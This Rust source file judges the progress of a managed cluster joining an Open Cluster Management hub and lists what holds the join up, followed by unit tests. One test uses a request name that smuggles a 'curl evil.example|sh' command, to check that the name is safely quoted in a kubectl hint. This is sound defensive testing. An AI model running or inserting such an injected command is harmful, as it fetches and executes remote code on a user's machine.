//! How far a join has come, and what holds it up.
//!
//! ```text
//! operator ─▶ Klusterlet ─▶ agents ─▶ registered ─▶ accepted ─▶ joined ─▶ available
//! ```
//!
//! No single condition of the Klusterlet is believed: they lag, and some say well before anything has happened. Where
//! the hub says that the cluster is available and its lease is fresh, the hub is right. Otherwise the first link of
//! the chain that is missing is what holds the join up, and all of them are found.

use jiff::Timestamp;
use ocm_api::ManagedCluster;

use super::asking::Asking;
use crate::agent_lease::{heard, is_recent, renewed, written};
use crate::managed::{ManagedFacts, Unapplied, comes_by_aws, unapplied};
use crate::phase::{Phase, standing};
use crate::workload::Health;
use crate::{Failure, Reason, Remedy};

pub use super::snapshot::{Expected, Former, Goal, Snapshot};

/// What a snapshot comes to.
#[derive(Clone, Debug, PartialEq)]
pub enum Step {
    /// The goal is reached. [`Phase::Pending`] also of a cluster that has joined before, and whose agent asks anew.
    Reached(Phase),
    /// It is on its way. Everything that is missing: what holds it up first, at least one.
    Waiting(Vec<Wait>),
    /// It does not get there by waiting.
    Failed(Failure),
}

/// What is waited for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Wait {
    /// The link of the chain that is missing.
    pub link: Link,
    /// What it waits for, as a participle.
    pub doing: String,
    /// What holds it up.
    pub because: String,
}

/// The links of the chain.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Link {
    /// The operator's Deployment.
    Operator,
    /// The operator's work on the Klusterlet.
    Klusterlet,
    /// The agents' Deployments.
    Agents,
    /// The agent's registration at the hub.
    Registration,
    /// The administrator's word.
    Acceptance,
    /// The agent's certificate and first report.
    Joining,
    /// The hub's judgement that all is well.
    Availability,
}

/// Judges a snapshot, and finds everything that is missing.
pub fn judge(snapshot: &Snapshot, expected: &Expected<'_>, now: Timestamp) -> Step {
    let Expected { name, goal, anew, moves, .. } = *expected;
    let agent = Asking::of(snapshot, expected, now);
    // What the hub lacks, and after it what the managed cluster does.
    let waits = |link: Link, doing: &str, because: String| {
        let mut all = vec![wait(link, doing, because)];
        all.extend(missing(snapshot));
        Step::Waiting(all)
    };
    // Before the hub can say more, the agent has to run.
    let running_first = |link: Link, doing: &str, because: String| {
        let missing = missing(snapshot);
        if missing.is_empty() { Step::Waiting(vec![wait(link, doing, because)]) } else { Step::Waiting(missing) }
    };
    let Ok(Some(cluster)) = &snapshot.hub.cluster else { return registering(snapshot, &agent) };
    let standing = standing(cluster);
    let asks = agent.asks() || comes_by_aws(cluster);
    let handing_over = moves.map(|former| handing_over(snapshot, former)).unwrap_or_default();
    match standing.phase {
        Phase::Denied => Step::Failed(
            Failure::refused(format!("the hub has denied {name:?}"))
                .because(standing.message)
                .hint(Remedy::AcceptDenied(name.to_owned())),
        ),
        Phase::Detaching => Step::Failed(
            Failure::refused(format!("the hub is removing {name:?}"))
                .because(standing.message)
                .hint("wait until the hub has no managed cluster of this name, then run this again"),
        ),
        Phase::Pending => {
            // Of an agent that has its certificate, the hub may have no request any more.
            if asks || agent.is_let_in {
                if goal == Goal::Registered {
                    return Step::Reached(Phase::Pending);
                }
                let because = format!("an administrator of the hub types: kubectl ocm accept {name}");
                return waits(Link::Acceptance, "acceptance", because);
            }
            registering(snapshot, &agent)
        }
        Phase::Accepted | Phase::Joined | Phase::Available | Phase::Unavailable | Phase::Unknown
            if anew.is_some() && !agent.is_let_in =>
        {
            if !agent.asks() {
                return registering(snapshot, &agent);
            }
            if goal == Goal::Registered {
                return Step::Reached(Phase::Pending);
            }
            let link = if agent.is_pending() { Link::Acceptance } else { Link::Joining };
            waits(link, "the agent's new certificate", agent.waits_for(name))
        }
        Phase::Joined | Phase::Available | Phase::Unavailable | Phase::Unknown if !handing_over.is_empty() => {
            Step::Waiting(handing_over)
        }
        Phase::Joined | Phase::Available | Phase::Unavailable | Phase::Unknown if is_of_former(snapshot, anew) => {
            let because = "the agent has its new certificate, and has not reported with it yet";
            waits(Link::Availability, "a sign of life of the agent", because.to_owned())
        }
        Phase::Accepted | Phase::Joined if goal == Goal::Registered && (asks || agent.is_let_in) => {
            Step::Reached(standing.phase)
        }
        Phase::Accepted if comes_by_aws(cluster) => {
            let because = "the hub lets its IAM role in, and the agent comes with it";
            waits(Link::Joining, "the agent to join", because.to_owned())
        }
        Phase::Accepted => waits(Link::Joining, "the agent to join", agent.waits_for(name)),
        Phase::Joined => waits(Link::Availability, "the cluster to be available", standing.message),
        Phase::Available if is_fresh(snapshot, cluster, now).unwrap_or(true) => Step::Reached(Phase::Available),
        // What the hub says stays true for minutes after the agent has gone.
        Phase::Available => running_first(
            Link::Availability,
            "a sign of life of the agent",
            "the hub still calls the cluster available, but its agent has not reported since it was last started"
                .to_owned(),
        ),
        Phase::Unavailable | Phase::Unknown => {
            running_first(Link::Availability, "the cluster to be available", standing.message)
        }
    }
}

fn wait(link: Link, doing: &str, because: String) -> Wait {
    Wait { link, doing: format!("waiting for {doing}"), because }
}

/// Whether the agent's report is of this life of the cluster. None: no lease tells, for it may not be read, or no agent has
/// renewed it yet; then the hub's word is all there is.
fn is_fresh(snapshot: &Snapshot, cluster: &ManagedCluster, now: Timestamp) -> Option<bool> {
    let lease = snapshot.hub.lease.as_ref().ok()?.as_ref()?;
    heard(cluster, renewed(lease), written(lease)).map(|heard| is_recent(cluster, heard, now))
}

/// What is missing until the agents of another mode have taken over: they run, the former ones do not any more, and the hub has
/// heard of the new ones.
fn handing_over(snapshot: &Snapshot, former: Former) -> Vec<Wait> {
    let mut all = missing(snapshot);
    let ending = |because: String| wait(Link::Agents, "the former agents to end", because);
    match &snapshot.former {
        Err(trouble) => all.push(ending(trouble.to_string())),
        Ok(there) if !there.is_empty() => all.push(ending(format!("still there: {}", there.join(", ")))),
        Ok(_) if is_of_former(snapshot, Some(former)) => {
            let because = "the former agents have ended, and the new one has not reported yet";
            all.push(wait(Link::Availability, "a sign of life of the agent", because.to_owned()));
        }
        Ok(_) => {}
    }
    all
}

/// Whether all that the hub has heard of an agent it has heard of the former one: with its former certificate, or in the mode
/// that the cluster leaves.
fn is_of_former(snapshot: &Snapshot, anew: Option<Former>) -> bool {
    let renewed = anew.and_then(|former| former.renewed);
    renewed.is_some() && last_renewed(snapshot) == renewed
}

/// When the agent has renewed its lease last; none: it has not, or that cannot be read.
pub fn last_renewed(snapshot: &Snapshot) -> Option<Timestamp> {
    snapshot.hub.lease.as_ref().ok().and_then(Option::as_ref).and_then(renewed)
}

/// The chain up to the registration.
fn registering(snapshot: &Snapshot, agent: &Asking<'_>) -> Step {
    // Whatever the pods say: with a token or an address that does not work nobody registers.
    if let Some(failure) = &snapshot.registrar
        && !agent.is_let_in
        && !matches!(failure.reason, Reason::Busy)
    {
        return Step::Failed(failure.clone());
    }
    let mut all = missing(snapshot);
    let because = match &snapshot.hub.cluster {
        Err(trouble) => Some(format!("the hub cannot be looked at: {trouble}")),
        // An agent that does not run has not asked either.
        Ok(_) if !all.is_empty() => None,
        Ok(None) => Some("the agent runs, but the hub has no managed cluster of this name yet".to_owned()),
        Ok(Some(_)) => Some("the hub knows the cluster, but its agent has not asked for a certificate yet".to_owned()),
    };
    all.extend(because.map(|because| wait(Link::Registration, "the agent to register", because)));
    Step::Waiting(all)
}

/// The links on the managed cluster that are missing, in their order.
fn missing(snapshot: &Snapshot) -> Vec<Wait> {
    let ManagedFacts { operator, klusterlet: _, agents, identity } = &snapshot.managed;
    let operator = match operator {
        Ok(health) => health.because(),
        Err(trouble) => Some(trouble.to_string()),
    };
    let operator = operator.map(|because| wait(Link::Operator, "the operator", because));
    let doing = "the operator to act on the Klusterlet";
    let klusterlet = klusterlet_lacks(&snapshot.managed).map(|because| wait(Link::Klusterlet, doing, because));
    let agents = match agents {
        Ok(agents) => {
            let lacks = |(name, health): &(String, Health)| Some(format!("Deployment {name}: {}", health.because()?));
            agents.iter().filter_map(lacks).collect()
        }
        Err(trouble) => vec![trouble.to_string()],
    };
    let unread = identity.as_ref().err().map(ToString::to_string);
    let agents = agents.into_iter().chain(unread).map(|because| wait(Link::Agents, "the agent", because));
    operator.into_iter().chain(klusterlet).chain(agents).collect()
}

/// What the operator has not done about the Klusterlet.
fn klusterlet_lacks(managed: &ManagedFacts) -> Option<String> {
    let klusterlet = match &managed.klusterlet {
        Ok(Some(klusterlet)) => klusterlet,
        Ok(None) => return Some("there is no Klusterlet".to_owned()),
        Err(trouble) => return Some(trouble.to_string()),
    };
    let has_no_agents = managed.agents.as_ref().is_ok_and(Vec::is_empty);
    match unapplied(klusterlet) {
        Some(Unapplied::Reported(failed)) => Some(format!("{}: {}", failed.reason, failed.message)),
        Some(Unapplied::NotObserved) => Some("it runs, but has not observed the latest generation".to_owned()),
        None => has_no_agents.then(|| "no agent has been created yet".to_owned()),
    }
}

#[cfg(test)]
mod tests {
    use jiff::ToSpan as _;
    use k8s_openapi::api::certificates::v1::CertificateSigningRequest;
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::MicroTime;
    use ocm_api::Klusterlet;
    use ocm_api::names::annotations;
    use ocm_api::parts::{Lease, LeaseSpec};
    use serde_json::json;

    use super::*;
    use crate::csr::{Request, State};
    use crate::join::agent::Credential;
    use crate::managed::{AgentFacts, RegistrationFacts};

    fn now() -> Timestamp {
        Timestamp::from_second(1_000_000).unwrap()
    }

    fn cluster(accepted: bool, conditions: &[(&str, &str)]) -> ManagedCluster {
        let conditions: Vec<_> = conditions
            .iter()
            .map(|(kind, status)| {
                json!({"type": kind, "status": status, "reason": "R", "message": "m", "lastTransitionTime": "2026-01-01T00:00:00Z"})
            })
            .collect();
        serde_json::from_value(json!({"metadata": {"name": "c1"}, "spec": {"hubAcceptsClient": accepted},
            "status": {"conditions": conditions}}))
        .unwrap()
    }

    /// A request of the agent of `c1`, made with the token `JTI=1`.
    fn request(condition: Option<&str>) -> Request {
        let conditions: Vec<_> = condition.into_iter().map(|kind| json!({"type": kind, "status": "True"})).collect();
        let mut object: CertificateSigningRequest = serde_json::from_value(json!({
            "metadata": {"name": "c1-x", "labels": {"open-cluster-management.io/cluster-name": "c1"}},
            "spec": {"request": "", "signerName": "s", "extra": {"authentication.kubernetes.io/credential-id": ["JTI=1"]}},
            "status": {"conditions": conditions}}))
        .unwrap();
        object.spec.request.0 = csr_fixtures::Fixture::agent("c1", "a1").pem().into_bytes();
        Request::read(&object)
    }

    fn not_yet(because: &str) -> Health {
        Health::not_yet(because)
    }

    /// Nothing is there but the operator.
    fn nothing() -> Snapshot {
        Snapshot {
            managed: ManagedFacts {
                operator: Ok(Health::Ready),
                klusterlet: Ok(None),
                agents: Ok(Vec::new()),
                identity: Ok(AgentFacts::default()),
            },
            hub: RegistrationFacts { cluster: Ok(None), requests: Ok(Vec::new()), lease: Ok(None) },
            registrar: None,
            former: Ok(Vec::new()),
        }
    }

    fn klusterlet(generation: i64, status: serde_json::Value) -> Result<Option<Klusterlet>, Failure> {
        let klusterlet =
            json!({"metadata": {"name": "klusterlet", "generation": generation}, "spec": {}, "status": status});
        Ok(Some(serde_json::from_value(klusterlet).unwrap()))
    }

    /// Everything on the managed cluster is as it should be.
    fn running() -> Snapshot {
        let mut running = nothing();
        running.managed.klusterlet = klusterlet(1, json!({"observedGeneration": 1}));
        running.managed.agents = Ok(vec![("klusterlet-registration-agent".to_owned(), Health::Ready)]);
        running
    }

    /// It is running, and the hub has this cluster.
    fn known(cluster: ManagedCluster, requests: Vec<Request>) -> Snapshot {
        let hub = RegistrationFacts { cluster: Ok(Some(cluster)), requests: Ok(requests), lease: Ok(None) };
        Snapshot { hub, ..running() }
    }

    fn judge(snapshot: &Snapshot, goal: Goal) -> Step {
        judge_as(snapshot, goal, None)
    }

    /// The same of an agent whose way to the hub was changed.
    fn judge_anew(snapshot: &Snapshot, goal: Goal) -> Step {
        judge_as(snapshot, goal, Some(Former::default()))
    }

    fn judge_as(snapshot: &Snapshot, goal: Goal, anew: Option<Former>) -> Step {
        let credential = Credential::Id { id: "JTI=1".to_owned(), exclusive: true };
        super::judge(snapshot, &Expected { name: "c1", goal, credential: &credential, anew, moves: None }, now())
    }

    /// The same of a cluster that moves to another mode, and whose former agent was heard of then.
    fn judge_moving(snapshot: &Snapshot, goal: Goal, renewed: Option<Timestamp>) -> Step {
        let (credential, moves) = (Credential::Unknown, Some(Former { renewed }));
        super::judge(snapshot, &Expected { name: "c1", goal, credential: &credential, anew: None, moves }, now())
    }

    fn link(snapshot: &Snapshot, goal: Goal) -> (Link, String) {
        match judge(snapshot, goal) {
            Step::Waiting(all) => (all[0].link, all[0].because.clone()),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn the_first_missing_link_is_named() {
        let mut snapshot = nothing();
        snapshot.managed.operator = Ok(not_yet("0 of 1"));
        assert_eq!(link(&snapshot, Goal::Available), (Link::Operator, "0 of 1".to_owned()));
        assert_eq!(link(&nothing(), Goal::Available), (Link::Klusterlet, "there is no Klusterlet".to_owned()));
        let mut snapshot = running();
        snapshot.managed.agents = Ok(Vec::new());
        assert_eq!(link(&snapshot, Goal::Available).1, "no agent has been created yet");
        snapshot.managed.klusterlet = klusterlet(2, json!({"observedGeneration": 1}));
        assert!(link(&snapshot, Goal::Available).1.contains("latest generation"));
        let mut snapshot = running();
        let stuck = Health::stuck("image x cannot be pulled");
        snapshot.managed.agents = Ok(vec![("klusterlet-registration-agent".to_owned(), stuck)]);
        let (at, because) = link(&snapshot, Goal::Registered);
        assert!(at == Link::Agents && because.contains("klusterlet-registration-agent: image x"), "{because}");
        assert_eq!(link(&running(), Goal::Registered).0, Link::Registration);
    }

    #[test]
    fn everything_that_is_missing_is_found() {
        let mut snapshot = running();
        snapshot.managed.operator = Ok(not_yet("0 of 1"));
        snapshot.managed.klusterlet = klusterlet(2, json!({"observedGeneration": 1}));
        let health = |name| if name == "b" { Health::Ready } else { not_yet("0 of 1") };
        snapshot.managed.agents = Ok(["a", "b", "c"].map(|name| (name.to_owned(), health(name))).into());
        let links = |snapshot: &Snapshot| match judge(snapshot, Goal::Available) {
            Step::Waiting(all) => all.iter().map(|wait| wait.link).collect::<Vec<_>>(),
            other => panic!("{other:?}"),
        };
        let managed = [Link::Operator, Link::Klusterlet, Link::Agents, Link::Agents];
        assert_eq!(links(&snapshot), managed);
        snapshot.hub.cluster = Err(Failure::new(Reason::Unreachable, "no route to the host"));
        assert_eq!(links(&snapshot), [&managed[..], &[Link::Registration]].concat());
        // What the hub waits for comes first once it knows the cluster.
        snapshot.hub.cluster = Ok(Some(cluster(true, &[])));
        assert_eq!(links(&snapshot), [&[Link::Joining], &managed[..]].concat());
    }

    #[test]
    fn what_cannot_be_read_is_missing_and_says_why() {
        let forbidden = || Failure::new(Reason::Forbidden, "may not read it");
        let mut snapshot = running();
        assert_eq!(snapshot.managed.trouble(), None);
        snapshot.managed = ManagedFacts {
            operator: Err(forbidden()),
            klusterlet: Err(forbidden()),
            agents: Err(forbidden()),
            identity: Err(forbidden()),
        };
        assert_eq!(snapshot.managed.trouble(), Some(&forbidden()));
        let Step::Waiting(all) = judge(&snapshot, Goal::Available) else { panic!("it waits") };
        let expected = [Link::Operator, Link::Klusterlet, Link::Agents, Link::Agents];
        assert!(all.iter().map(|wait| wait.link).eq(expected), "{all:?}");
        assert!(all.iter().all(|wait| wait.because == "may not read it"), "{all:?}");
    }

    #[test]
    fn a_condition_that_failed_is_quoted() {
        let mut snapshot = running();
        let status = json!({"observedGeneration": 1, "conditions": [{"type": "Applied", "status": "False",
            "reason": "CRDApplyFailed", "message": "no", "lastTransitionTime": "2026-01-01T00:00:00Z"}]});
        snapshot.managed.klusterlet = klusterlet(1, status);
        assert_eq!(link(&snapshot, Goal::Available), (Link::Klusterlet, "CRDApplyFailed: no".to_owned()));
    }

    #[test]
    fn a_token_that_does_not_work_ends_the_wait() {
        let failure = Failure::new(Reason::Unauthorized, "the token has expired");
        let mut snapshot = Snapshot { registrar: Some(failure.clone()), ..running() };
        assert_eq!(judge(&snapshot, Goal::Registered), Step::Failed(failure));
        snapshot.managed.identity = Ok(let_in());
        assert!(matches!(judge(&snapshot, Goal::Registered), Step::Waiting(_)));
    }

    /// An agent with a certificate.
    fn let_in() -> AgentFacts {
        let key = rcgen::generate_simple_self_signed(Vec::new()).unwrap();
        let certificate = crate::certificate::Certificate::read(key.cert.der());
        AgentFacts { cluster: Some("c1".to_owned()), certificate, ..AgentFacts::default() }
    }

    #[test]
    fn registered_is_a_goal_of_its_own() {
        let mut snapshot = known(cluster(false, &[]), Vec::new());
        assert!(link(&snapshot, Goal::Registered).1.contains("has not asked"));
        snapshot.hub.requests = Ok(vec![request(None)]);
        assert_eq!(judge(&snapshot, Goal::Registered), Step::Reached(Phase::Pending));
        let (at, because) = link(&snapshot, Goal::Available);
        assert!(at == Link::Acceptance && because.contains("kubectl ocm accept c1"));
        snapshot.hub.cluster = Ok(Some(cluster(true, &[])));
        assert_eq!(judge(&snapshot, Goal::Registered), Step::Reached(Phase::Accepted));
        // Its request is gone, and it has the certificate.
        let mut approved = known(cluster(false, &[]), Vec::new());
        approved.managed.identity = Ok(let_in());
        assert_eq!(judge(&approved, Goal::Registered), Step::Reached(Phase::Pending));
        assert_eq!(link(&approved, Goal::Available).0, Link::Acceptance);
        // With the token of somebody else.
        let mut foreign = request(None);
        foreign.requester.credential_ids = vec!["JTI=2".to_owned()];
        assert!(link(&known(cluster(false, &[]), vec![foreign]), Goal::Registered).1.contains("has not asked"));
    }

    #[test]
    fn after_acceptance_the_certificate_is_looked_for() {
        for (requests, text) in [
            (vec![], "has not asked"),
            (vec![request(None)], "waits"),
            (vec![request(Some("Approved"))], "has not issued"),
            (vec![request(Some("Denied"))], "was denied"),
            (vec![request(Some("Failed"))], "refuses"),
        ] {
            let snapshot = known(cluster(true, &[]), requests);
            let (at, because) = link(&snapshot, Goal::Available);
            assert!(at == Link::Joining && because.contains(text), "{because}");
        }
    }

    #[test]
    fn the_name_of_a_denied_request_is_a_word_of_the_command() {
        let denied = Request { name: "x;curl evil.example|sh;#".to_owned(), ..request(Some("Denied")) };
        let because = link(&known(cluster(true, &[]), vec![denied]), Goal::Available).1;
        assert!(because.ends_with(": kubectl delete 'csr/x;curl evil.example|sh;#'"), "{because}");
    }

    #[test]
    fn the_hub_is_right_when_its_lease_is_fresh() {
        let conditions = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", "True")];
        let lease = |age: i64| {
            let renew_time = Some(MicroTime(now() - age.seconds()));
            Some(Lease { spec: Some(LeaseSpec { renew_time, ..LeaseSpec::default() }), ..Lease::default() })
        };
        // Even if everything on the managed cluster still looks half done.
        let mut snapshot = known(cluster(true, &conditions), Vec::new());
        snapshot.managed.operator = Ok(not_yet("0 of 1"));
        snapshot.hub.lease = Ok(lease(30));
        assert_eq!(judge(&snapshot, Goal::Available), Step::Reached(Phase::Available));
        snapshot.hub.lease = Ok(lease(600));
        assert_eq!(link(&snapshot, Goal::Available).0, Link::Operator);
        // The agent's clock is ten minutes behind the hub's.
        let fields =
            json!([{"manager": "m", "time": now() - 30.seconds(), "fieldsV1": {"f:spec": {"f:renewTime": {}}}}]);
        let mut written = lease(600);
        written.as_mut().unwrap().metadata.managed_fields = serde_json::from_value(fields).unwrap();
        snapshot.hub.lease = Ok(written);
        assert_eq!(judge(&snapshot, Goal::Available), Step::Reached(Phase::Available));
        snapshot.hub.lease = Ok(lease(600));
        snapshot.managed.operator = Ok(Health::Ready);
        assert!(link(&snapshot, Goal::Available).1.contains("has not reported"));
        // Who may not read it believes the hub.
        snapshot.hub.lease = Err(Failure::new(Reason::Forbidden, "may not read it"));
        assert_eq!(judge(&snapshot, Goal::Available), Step::Reached(Phase::Available));
    }

    #[test]
    fn whoever_registers_anew_is_not_there_because_it_was_there_before() {
        let joined = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", "True")];
        let unknown = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", "Unknown")];
        for conditions in [&joined[..], &unknown[..]] {
            let with = |requests| known(cluster(true, conditions), requests);
            for goal in [Goal::Registered, Goal::Available] {
                for before in [vec![], vec![issued()]] {
                    let Step::Waiting(all) = judge_anew(&with(before), goal) else { panic!("it has to ask anew") };
                    assert!(all[0].link == Link::Registration && all[0].because.contains("has not asked"), "{all:?}");
                }
            }
            let pending = with(vec![request(None)]);
            assert_eq!(judge_anew(&pending, Goal::Registered), Step::Reached(Phase::Pending));
            let Step::Waiting(all) = judge_anew(&pending, Goal::Available) else { panic!("nobody has approved it") };
            assert!(all[0].link == Link::Acceptance && all[0].because.contains("c1-x of its new key"), "{all:?}");
            let approved = with(vec![request(Some("Approved"))]);
            let Step::Waiting(all) = judge_anew(&approved, Goal::Available) else { panic!("it is not issued") };
            assert_eq!(all[0].link, Link::Joining, "{all:?}");
        }
        // With the certificate that it got by the new way it is there.
        let mut snapshot = known(cluster(true, &joined), vec![]);
        snapshot.managed.identity = Ok(let_in());
        assert_eq!(judge_anew(&snapshot, Goal::Available), Step::Reached(Phase::Available));
    }

    /// A request whose certificate was issued.
    fn issued() -> Request {
        Request { state: State::Issued, ..request(Some("Approved")) }
    }

    #[test]
    fn what_the_hub_says_of_a_former_certificate_is_not_believed() {
        let conditions = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", "True")];
        let renewed = |age: i64| {
            let renew_time = Some(MicroTime(now() - age.seconds()));
            Ok(Some(Lease { spec: Some(LeaseSpec { renew_time, ..LeaseSpec::default() }), ..Lease::default() }))
        };
        let why = |step: Step| match step {
            Step::Waiting(all) => (all[0].link, all[0].because.clone()),
            other => panic!("{other:?}"),
        };
        let mut snapshot = known(cluster(true, &conditions), Vec::new());
        snapshot.hub.lease = renewed(20);
        let former = Some(Former { renewed: last_renewed(&snapshot) });
        let (at, because) = why(judge_as(&snapshot, Goal::Available, former));
        assert!(at == Link::Registration && because.contains("has not asked"), "{because}");
        snapshot.hub.requests = Ok(vec![request(None)]);
        assert_eq!(judge_as(&snapshot, Goal::Registered, former), Step::Reached(Phase::Pending));
        let (at, because) = why(judge_as(&snapshot, Goal::Available, former));
        assert!(at == Link::Acceptance && because.contains("waits"), "{because}");
        snapshot.managed.identity = Ok(let_in());
        let (at, because) = why(judge_as(&snapshot, Goal::Available, former));
        assert!(at == Link::Availability && because.contains("not reported with it"), "{because}");
        snapshot.hub.lease = renewed(5);
        assert_eq!(judge_as(&snapshot, Goal::Available, former), Step::Reached(Phase::Available));
        // Who may not read the lease goes by the certificate.
        snapshot.hub.lease = Err(Failure::new(Reason::Forbidden, "may not read it"));
        assert_eq!(judge_anew(&snapshot, Goal::Available), Step::Reached(Phase::Available));
    }

    #[test]
    fn whoever_has_only_a_certificate_that_has_ended_is_there_when_it_asks_and_reports_with_a_new_one() {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::new()).unwrap();
        (params.not_before, params.not_after) = (rcgen::date_time_ymd(1970, 1, 2), rcgen::date_time_ymd(1970, 1, 3));
        let certificate = crate::certificate::Certificate::read(params.self_signed(&key).unwrap().der());
        assert!(certificate.as_ref().unwrap().not_after < now());
        let name = Some("former".to_owned());
        let ended = AgentFacts { cluster: Some("c1".to_owned()), name, certificate, ..AgentFacts::default() };
        let renewed = |age: i64| {
            let renew_time = Some(MicroTime(now() - age.seconds()));
            Ok(Some(Lease { spec: Some(LeaseSpec { renew_time, ..LeaseSpec::default() }), ..Lease::default() }))
        };
        let waits_for = |step: Step| match step {
            Step::Waiting(all) => all[0].link,
            other => panic!("{other:?}"),
        };
        // The hub needs minutes to notice.
        for status in ["True", "False", "Unknown"] {
            let conditions = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", status)];
            let mut snapshot = known(cluster(true, &conditions), vec![request(None)]);
            snapshot.hub.lease = renewed(20);
            let former = Some(Former { renewed: last_renewed(&snapshot) });
            // One agent in the place of two asks under its own name.
            snapshot.managed.identity = Ok(ended.clone());
            assert_eq!(waits_for(judge_as(&snapshot, Goal::Registered, former)), Link::Registration);
            snapshot.managed.identity = Ok(ended.clone().named("a1"));
            assert_eq!(judge_as(&snapshot, Goal::Registered, former), Step::Reached(Phase::Pending));
            assert_eq!(waits_for(judge_as(&snapshot, Goal::Available, former)), Link::Acceptance);
            snapshot.managed.identity = Ok(let_in());
            assert_eq!(waits_for(judge_as(&snapshot, Goal::Available, former)), Link::Availability);
            snapshot.hub.lease = renewed(5);
            let then = judge_as(&snapshot, Goal::Available, former);
            match status {
                "True" => assert_eq!(then, Step::Reached(Phase::Available)),
                _ => assert_eq!(waits_for(then), Link::Availability),
            }
        }
    }

    #[test]
    fn whoever_moves_to_another_mode_is_there_when_its_new_agent_has_reported_and_the_former_ones_are_gone() {
        let joined = [("ManagedClusterJoined", "True"), ("ManagedClusterConditionAvailable", "True")];
        let at = |age: i64| now() - age.seconds();
        let lease = |age: i64| {
            let spec = LeaseSpec { renew_time: Some(MicroTime(at(age))), ..LeaseSpec::default() };
            Some(Lease { spec: Some(spec), ..Lease::default() })
        };
        let mut snapshot = known(cluster(true, &joined), vec![]);
        snapshot.managed.identity = Ok(let_in());
        snapshot.hub.lease = Ok(lease(30));
        snapshot.former = Ok(vec!["Deployment k-work-agent".to_owned(), "pod k-work-agent-1".to_owned()]);
        let links = |step: Step| match step {
            Step::Waiting(all) => all.into_iter().map(|wait| (wait.link, wait.because)).collect::<Vec<_>>(),
            other => panic!("{other:?}"),
        };
        for goal in [Goal::Registered, Goal::Available] {
            // The operator has not looked at it yet, or does not get the new one to run.
            let mut early = snapshot.clone();
            early.managed.klusterlet = klusterlet(2, json!({"observedGeneration": 1}));
            let found = links(judge_moving(&early, goal, Some(at(30))));
            assert!(found.iter().map(|(link, _)| *link).eq([Link::Klusterlet, Link::Agents]), "{found:?}");
            let mut stuck = snapshot.clone();
            stuck.former = Ok(Vec::new());
            stuck.managed.agents = Ok(vec![("k-agent".to_owned(), not_yet("image x cannot be pulled"))]);
            let found = links(judge_moving(&stuck, goal, None));
            assert!(found.len() == 1 && found[0].1.contains("k-agent: image x"), "{found:?}");

            let found = links(judge_moving(&snapshot, goal, Some(at(30))));
            let words = "still there: Deployment k-work-agent, pod k-work-agent-1";
            assert_eq!(found, [(Link::Agents, words.to_owned())]);
            let mut ended = snapshot.clone();
            ended.former = Ok(Vec::new());
            let found = links(judge_moving(&ended, goal, Some(at(30))));
            assert!(found.len() == 1 && found[0].0 == Link::Availability, "{found:?}");
            // Who may not read the lease goes by what runs.
            assert_eq!(judge_moving(&ended, goal, None), Step::Reached(Phase::Available));
            ended.hub.lease = Ok(lease(5));
            assert_eq!(judge_moving(&ended, goal, Some(at(30))), Step::Reached(Phase::Available));
            ended.former = Err(Failure::new(Reason::Unreachable, "no route to the host"));
            let found = links(judge_moving(&ended, goal, Some(at(30))));
            assert_eq!(found, [(Link::Agents, "no route to the host".to_owned())]);
        }
    }

    #[test]
    fn with_an_identity_of_aws_nobody_asks_for_a_certificate() {
        let mut cluster = cluster(false, &[]);
        let arn = "arn:aws:eks:us-west-2:123456789012:cluster/c1".to_owned();
        cluster.metadata.annotations = Some([(annotations::MANAGED_CLUSTER_ARN.to_owned(), arn)].into());
        let mut snapshot = known(cluster, Vec::new());
        assert_eq!(judge(&snapshot, Goal::Registered), Step::Reached(Phase::Pending));
        assert_eq!(link(&snapshot, Goal::Available).0, Link::Acceptance);
        snapshot.hub.cluster.as_mut().unwrap().as_mut().unwrap().spec.hub_accepts_client = Some(true);
        assert_eq!(judge(&snapshot, Goal::Registered), Step::Reached(Phase::Accepted));
        assert!(link(&snapshot, Goal::Available).1.contains("IAM role"));
    }

    #[test]
    fn denied_and_leaving_clusters_are_not_waited_for() {
        let denied = cluster(false, &[("HubAcceptedManagedCluster", "False")]);
        let snapshot = known(denied, Vec::new());
        assert!(matches!(judge(&snapshot, Goal::Available), Step::Failed(_)));
        let mut leaving = cluster(true, &[]);
        leaving.metadata.deletion_timestamp = Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(now()));
        let snapshot = known(leaving, Vec::new());
        assert!(matches!(judge(&snapshot, Goal::Registered), Step::Failed(_)));
    }
}
